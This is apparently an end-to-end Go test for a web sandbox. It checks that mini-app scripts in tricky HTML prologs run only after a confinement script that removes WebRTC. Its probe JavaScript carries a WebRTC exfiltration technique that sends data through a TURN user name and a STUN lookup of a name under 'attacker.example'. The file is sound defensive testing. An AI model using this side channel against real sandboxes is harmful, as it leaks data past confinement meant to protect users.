package e2e

import (
	"bufio"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/voicebox/voicebox/tests/testbin"
)

// Issue 28: two ways a mini-app's script ran without confine.js, and so with WebRTC (docs/sandbox.md,
// "Where the confinement goes" and "Documents that are not HTML"). Each script here, a probe, reports to
// the room whether the SDK (and so the confinement) ran before it and whether RTCPeerConnection is there,
// and where it is, tries a peer connection with a TURN server (a UDP sink) and a STUN name of its own, as
// the red team's page did.

// probeJS is a script that reports {sdk, rtc, mode, ran} to the room's window under key (a window message
// {<kind>: key, probe}) and, where it finds RTCPeerConnection, sends a TURN user name to turn and looks
// stunName up. The first probe of a document also says ready on load. It holds no "<" or "&", so it can
// stand in HTML, SVG and XML alike.
func probeJS(kind, key, turn, stunName string) string {
	return `(function () {
var r = {sdk: typeof window.webMcp, rtc: typeof window.RTCPeerConnection + "/" + typeof window.webkitRTCPeerConnection, mode: document.compatMode, ran: false};
try {
	var PC = window.RTCPeerConnection || window.webkitRTCPeerConnection;
	if (PC) {
		var pc = new PC({iceServers: [{urls: ` + js(turn) + `, username: ` + js("vb-"+key) + `, credential: "x"}, {urls: ` + js("stun:"+stunName) + `}]});
		pc.createDataChannel("x");
		pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
		(window.__vbPCs = window.__vbPCs || []).push(pc);
		r.ran = true;
	}
} catch (e) { r.threw = String(e); }
top.postMessage({` + kind + `: ` + js(key) + `, probe: r}, "*");
if (!window.__vbReadyOnLoad) { window.__vbReadyOnLoad = 1; addEventListener("load", function () { if (window.webMcp) window.webMcp.ready(); }); }
})();`
}

// probeReport is what a probe posted.
type probeReport struct {
	SDK   string `json:"sdk"`
	RTC   string `json:"rtc"`
	Mode  string `json:"mode"`
	Ran   bool   `json:"ran"`
	Threw string `json:"threw"`
}

// collectProbes makes the room keep every probe report of kind, by key, in window[store].
func collectProbes(t *testing.T, p page, kind, store string) {
	eval(t, p, nil, `window[%s] = {}; addEventListener("message", (e) => { const d = e.data;
		if (d && typeof d[%s] === "string") (window[%s][d[%s]] ||= []).push(d.probe); });`, js(store), js(kind), js(store), js(kind))
}

func probeReports(t *testing.T, p page, store string) map[string][]probeReport {
	var out map[string][]probeReport
	eval(t, p, &out, `return window[%s];`, js(store))
	return out
}

// roomProbeControl runs a probe in the room, outside the sandbox: where the browser has WebRTC its TURN
// user name reaches a sink of its own and its STUN name is in the DNS record, which shows that the
// measurements see what a probe sends.
func roomProbeControl(t *testing.T, p page, kind string) {
	control := newUDPSink(t)
	label := uniqueLabel("vbprobectl")
	collectProbes(t, p, kind, "__vbControl")
	eval(t, p, nil, "%s", probeJS(kind, "control", control.turnURL(), label+".attacker.example"))
	var r map[string][]probeReport
	waitTrue(t, p, 10*time.Second, 20*time.Millisecond, "the room's own probe", `return !!(window.__vbControl.control || []).length;`)
	eval(t, p, &r, `return window.__vbControl;`)
	if !r["control"][0].Ran {
		t.Logf("%s: no RTCPeerConnection in the room either (%+v): no WebRTC control", p.name(), r["control"][0])
		return
	}
	p.dns().mustResolve(label, "the room's own probe's STUN server")
	deadline := time.Now().Add(30 * time.Second)
	for control.n.Load() == 0 {
		if time.Now().After(deadline) {
			t.Fatal("the room's own probe never reached its TURN sink: the measurement does not work")
		}
		time.Sleep(20 * time.Millisecond)
	}
	eval(t, p, nil, `for (const pc of window.__vbPCs || []) pc.close(); window.__vbPCs = [];`)
}

// prologPage is one page of the corpus backend/sandbox/testdata/prologs.txt.
type prologPage struct {
	name     string
	runs     int    // the PROBE scripts a browser runs
	encoding string // utf-8, utf-16le, utf-16be
	page     string // with PROBE in place of each probe's script, UTF-8
}

func readPrologCorpus(t *testing.T) []prologPage {
	root, err := testbin.Root()
	if err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(filepath.Join(root, "backend", "sandbox", "testdata", "prologs.txt"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out []prologPage
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		line := sc.Text()
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		cols := strings.Split(line, "\t")
		runs, err := strconv.Atoi(cols[1])
		page, err2 := strconv.Unquote(cols[len(cols)-1])
		if len(cols) != 5 || err != nil || err2 != nil {
			t.Fatalf("prologs.txt: %q", line)
		}
		out = append(out, prologPage{cols[0], runs, cols[2], page})
	}
	return out
}

// bytes is the page with its probes, encoded as the corpus says.
func (pp prologPage) bytes(probe func(i int) string) (text string, file []byte) {
	var b strings.Builder
	rest := pp.page
	for i := 0; ; i++ {
		j := strings.Index(rest, "PROBE")
		if j < 0 {
			b.WriteString(rest)
			break
		}
		b.WriteString(rest[:j])
		b.WriteString(probe(i))
		rest = rest[j+len("PROBE"):]
	}
	text = b.String()
	switch pp.encoding {
	case "utf-16le", "utf-16be":
		var order binary.AppendByteOrder = binary.LittleEndian
		if pp.encoding == "utf-16be" {
			order = binary.BigEndian
		}
		file = order.AppendUint16(nil, 0xfeff)
		for _, u := range utf16.Encode([]rune(text)) {
			file = order.AppendUint16(file, u)
		}
	default:
		file = []byte(text)
	}
	return text, file
}

// caseProlog (issue 28, finding 1): every page of the prolog corpus, served from a file as the person's
// page would be, runs its scripts only after the SDK, without RTCPeerConnection, and in the rendering mode
// the same page has unchanged (the browser's own parser, DOMParser, says which). Before the fix the pages
// that open with "<!-->", "<!--->" or "--!>" ran their first script before confine.js, with WebRTC: a
// TURN user name reached the sink and the STUN name was looked up (run against the old binary).
func caseProlog(t *testing.T, p page, s *server) {
	corpus := readPrologCorpus(t)
	if len(corpus) < 40 {
		t.Fatalf("the corpus holds %d pages", len(corpus))
	}
	roomProbeControl(t, p, "vbProlog")
	sink := newUDPSink(t)
	label := uniqueLabel("vbprolog")
	p.dns().mustNotResolve(label, "a STUN server named by a script in a page's prolog")
	collectProbes(t, p, "vbProlog", "__vbProlog")
	texts := make([]string, len(corpus))
	for i, c := range corpus {
		key := fmt.Sprintf("prolog-%02d", i)
		text, file := c.bytes(func(int) string { return probeJS("vbProlog", key, sink.turnURL(), key+"-"+label+".attacker.example") })
		texts[i] = strings.TrimPrefix(text, "\ufeff") // as the browser's decoder hands it to the parser
		path := filepath.Join(s.workspace, key+".html")
		if err := os.WriteFile(path, file, 0o644); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.Remove(path) })
	}
	// The store learns of new files from the watcher, a moment later: each page is found before it is opened.
	for i := range corpus {
		waitListed(t, s, fmt.Sprintf("prolog-%02d.html", i))
	}
	var modes []string
	eval(t, p, &modes, `return %s.map((text) => new DOMParser().parseFromString(text, "text/html").compatMode);`, js(texts))
	want := 0
	for i, c := range corpus {
		app := launch(t, p, fmt.Sprintf("prolog-%02d.html", i))
		closeApp(t, p, app.AppID)
		want += c.runs
	}
	// Each page said ready after its scripts ran; their reports are window messages, which may land after
	// the launch settled: wait for as many as there should be (the checks below say which page differs).
	waitSoft(p, 10*time.Second, `return Object.values(window.__vbProlog).flat().length >= `+strconv.Itoa(want)+`;`)
	reports := probeReports(t, p, "__vbProlog")
	for i, c := range corpus {
		key := fmt.Sprintf("prolog-%02d", i)
		got := reports[key]
		if len(got) != c.runs {
			t.Errorf("%s (%s): %d of its scripts ran, want %d: %+v", key, c.name, len(got), c.runs, got)
		}
		for j, r := range got {
			if r.SDK != "object" || r.RTC != "undefined/undefined" || r.Ran {
				t.Errorf("%s (%s): script %d ran before the confinement: %+v", key, c.name, j, r)
			}
			if r.Mode != modes[i] {
				t.Errorf("%s (%s): rendering mode %s, the page's own is %s", key, c.name, r.Mode, modes[i])
			}
		}
	}
	if n := sink.n.Load(); n != 0 {
		t.Errorf("%d datagram(s) from a page's prolog reached the TURN sink", n)
	}
}

// waitSoft waits until script says true or within passes, without failing: the checks after it do.
func waitSoft(p page, within time.Duration, script string) {
	for deadline := time.Now().Add(within); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		var ok bool
		if raw, err := p.evalRaw(script); err == nil && json.Unmarshal(raw, &ok) == nil && ok {
			return
		}
	}
}
